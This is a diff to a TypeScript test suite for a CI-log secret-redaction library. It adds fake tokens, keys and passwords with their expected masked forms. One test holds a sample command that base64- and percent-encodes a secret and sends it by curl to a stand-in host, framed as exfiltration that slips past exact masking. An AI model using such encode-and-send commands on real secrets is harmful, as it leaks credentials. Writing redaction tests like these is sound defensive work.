@@ -2,7 +2,7 @@ import assert from 'node:assert/strict';
 import { existsSync, readFileSync, readdirSync } from 'node:fs';
 import { join } from 'node:path';
 import { fileURLToPath } from 'node:url';
-import { REDACTED, SECRET_PATTERNS, redactText, redactionTotal } from '@pipewatch/shared';
+import { REDACTED, SECRET_PATTERNS, redactLines, redactText, redactionTotal } from '@pipewatch/shared';
 
 interface Planted {
   kind: string;
@@ -60,6 +60,21 @@ const PLANTED: Planted[] = [
     expected: `curl -sS -H "Authorization: Bearer ${REDACTED}" https://api.example.com/deploy`,
   },
   {
+    kind: 'gitlab_token',
+    line: 'git push https://oauth2@gitlab.example.com/group/app.git -o token=glpat-Xq7vR2mK9pLz4Wn8Ty3B',
+    expected: `git push https://oauth2@gitlab.example.com/group/app.git -o token=${REDACTED}`,
+  },
+  {
+    kind: 'aws_session_token',
+    line: `"SessionToken": "${'IQoJb3JpZ2luX2VjEJr//////////wEaCXVzLWVhc3QtMSJHMEUCIQD'.repeat(3)}",`,
+    expected: `"SessionToken": "${REDACTED}",`,
+  },
+  {
+    kind: 'basic_auth',
+    line: 'curl -H "Authorization: Basic ZGVwbG95LWJvdDpzM2NyM3RQYXNzdzByZA==" https://nexus.example.com/upload',
+    expected: `curl -H "Authorization: Basic ${REDACTED}" https://nexus.example.com/upload`,
+  },
+  {
     kind: 'url_credentials',
     line: 'git clone https://deploy-bot:s3cr3tPassw0rd@gitlab.example.com/group/app.git --depth 1',
     expected: `git clone https://deploy-bot:${REDACTED}@gitlab.example.com/group/app.git --depth 1`,
@@ -97,6 +112,48 @@ describe('redactText', () => {
     });
   }
 
+  /** Further shapes of the same kinds, as they show up in real tool output. */
+  const VARIANTS: [kind: string, line: string, expected: string][] = [
+    ['github_token', 'gho_16C7e42F292c6912E7710c838347Ae178B4a used', `${REDACTED} used`],
+    ['github_token', 'GITHUB_TOKEN is ghs_1a2B3c4D5e6F7g8H9i0J1k2L3m4N5o6P7q8R', `GITHUB_TOKEN is ${REDACTED}`],
+    [
+      'github_token',
+      'pat: github_pat_11ABCDEFG0abcdefghijkl_MNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789ABCDEFGHIJ end',
+      `pat: ${REDACTED} end`,
+    ],
+    [
+      'aws_secret_access_key',
+      '    "SecretAccessKey": "9drTJvcXLB89EXAMPLELB8923FB892xMFI/aBcDe",',
+      `    "SecretAccessKey": "${REDACTED}",`,
+    ],
+    [
+      'aws_secret_access_key',
+      '+ aws configure set aws_secret_access_key wJalrXUtnFEMI/K7MDENG/bPxRfiCYEXAMPLEKEY',
+      `+ aws configure set aws_secret_access_key ${REDACTED}`,
+    ],
+    ['slack_token', 'SLACK_APP_TOKEN=xapp-1-A0123BCDE-4567890123-abcdef0123456789', `SLACK_APP_TOKEN=${REDACTED}`],
+    [
+      'private_key',
+      '-----BEGIN PGP PRIVATE KEY BLOCK-----\\nlQOYBF0vJ0cBCADK3q\\n-----END PGP PRIVATE KEY BLOCK-----',
+      REDACTED,
+    ],
+    [
+      'private_key',
+      'key: "-----BEGIN OPENSSH PRIVATE KEY-----\\nb3BlbnNzaC1rZXktdjEAAAAABG5vbmUAAAAEbm9uZQ',
+      `key: "${REDACTED}`,
+    ],
+    ['assignment', 'docker login -u bot --password q8Xz!m2Lr9vT registry.example.com', `docker login -u bot --password ${REDACTED} registry.example.com`],
+    ['assignment', 'password: "Zk29fLq0xP3mNw7V"', `password: "${REDACTED}"`],
+  ];
+
+  for (const [kind, line, expected] of VARIANTS) {
+    it(`redacts a ${kind} in the form ${JSON.stringify(line.slice(0, 48))}…`, () => {
+      const { text, counts } = redactText(line);
+      assert.equal(text, expected);
+      assert.deepEqual(counts, { [kind]: 1 });
+    });
+  }
+
   it('redacts a random value assigned to a secret-named key, in env and JSON style', () => {
     const cases: [string, string][] = [
       ['DB_PASSWORD=q8Xz!m2Lr9vT then connect', `DB_PASSWORD=${REDACTED} then connect`],
@@ -127,6 +184,20 @@ describe('redactText', () => {
     assert.equal(counts.known_value, 3);
   });
 
+  it('removes base64 and percent-encoded forms of a known value (exfiltration past exact masking)', () => {
+    const value = 'pr0d-Deploy/Key+77';
+    const b64 = Buffer.from(value).toString('base64');
+    const url = encodeURIComponent(value);
+    const { text, counts } = redactText(`echo ${b64} ; curl "https://x.example/?k=${url}"`, [value]);
+    assert.ok(!text.includes(b64.replace(/=+$/, '')) && !text.includes(url), text);
+    assert.equal(counts.known_value, 2);
+  });
+
+  it('removes the longer of two overlapping known values whole', () => {
+    const { text } = redactText('token=abcdefgh-ijkl', ['abcdefgh', 'abcdefgh-ijkl']);
+    assert.equal(text, `token=${REDACTED}`);
+  });
+
   it('ignores known values shorter than 4 characters, which would shred ordinary text', () => {
     assert.equal(redactText('the cat sat', ['at']).text, 'the cat sat');
   });
@@ -136,6 +207,39 @@ describe('redactText', () => {
     const { text, counts } = redactText(line);
     assert.equal(text, `${REDACTED} and ${REDACTED} and ${REDACTED}`);
     assert.deepEqual(counts, { aws_access_key_id: 2, github_token: 1 });
+  });
+
+  describe('redactLines', () => {
+    const pem = ['-----BEGIN RSA PRIVATE KEY-----', ...PEM_BODY.match(/.{1,64}/g)!, '-----END RSA PRIVATE KEY-----'];
+
+    it('masks every line of a key printed over many lines, keeping the line count and the lines around it', () => {
+      const input = ['$ cat deploy_key', ...pem, 'done'];
+      const { lines, counts } = redactLines(input);
+      assert.equal(lines.length, input.length);
+      assert.equal(lines[0], '$ cat deploy_key');
+      assert.equal(lines.at(-1), 'done');
+      assert.ok(lines.slice(1, -1).every((line) => line === REDACTED));
+      assert.deepEqual(counts, { private_key: 1 });
+    });
+
+    it('masks to the end of the batch when the END never comes', () => {
+      const { lines } = redactLines(['x', ...pem.slice(0, 4)]);
+      assert.deepEqual(lines, ['x', REDACTED, REDACTED, REDACTED, REDACTED]);
+    });
+
+    it('masks the base64 lines above an END whose BEGIN was in an earlier batch', () => {
+      const tail = ['2024-05-01T12:00:03.1234567Z building', ...pem.slice(3)];
+      const { lines, counts } = redactLines(tail);
+      assert.equal(lines[0], tail[0]);
+      assert.ok(lines.slice(1).every((line) => line === REDACTED), JSON.stringify(lines));
+      assert.equal(counts.private_key, 1);
+    });
+
+    it('redacts single-line secrets and known values on each line', () => {
+      const { lines, counts } = redactLines(['a ghp_R8x2Kq9ZpL4mW7vB3nT6yH1cF5dJ0sAeGuQi', 'b hunter2-prod'], ['hunter2-prod']);
+      assert.deepEqual(lines, [`a ${REDACTED}`, `b ${REDACTED}`]);
+      assert.deepEqual(counts, { github_token: 1, known_value: 1 });
+    });
   });
 
   describe('on real CI logs', () => {
@@ -156,6 +260,20 @@ describe('redactText', () => {
       }
       assert.ok(total > 50_000, `expected the full data set, read ${total} lines`);
       assert.ok(changed.length / total < 0.005, `${changed.length} of ${total} lines changed:\n${changed.slice(0, 20).join('\n')}`);
+    });
+
+    it('redactLines over each whole log changes no more lines than redactText line by line', function () {
+      if (!existsSync(root)) this.skip();
+      for (const build of readdirSync(root)) {
+        for (const file of readdirSync(join(root, build)).filter((name) => name.endsWith('.log'))) {
+          const lines = readFileSync(join(root, build, file), 'utf8').split('\n');
+          const redacted = redactLines(lines).lines;
+          assert.equal(redacted.length, lines.length);
+          const changed = redacted.filter((line, index) => line !== lines[index]).length;
+          const alone = lines.filter((line) => redactText(line).text !== line).length;
+          assert.equal(changed, alone, `${build}/${file}`);
+        }
+      }
     });
   });
 });
